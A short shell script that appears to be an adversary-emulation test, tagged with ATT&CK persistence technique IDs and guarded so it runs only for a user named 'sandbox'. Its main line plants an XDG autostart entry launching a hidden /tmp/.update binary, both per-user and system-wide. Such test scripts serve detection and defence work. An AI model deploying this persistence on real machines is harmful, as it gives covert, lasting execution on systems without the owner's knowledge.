#!/bin/sh
# technique: T1547.013 T1547 T1546
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p "$HOME/.config/autostart"; printf '[Desktop Entry]\nType=Application\nExec=/tmp/.update\n' > "$HOME/.config/autostart/update.desktop"; cp "$HOME/.config/autostart/update.desktop" /etc/xdg/autostart/
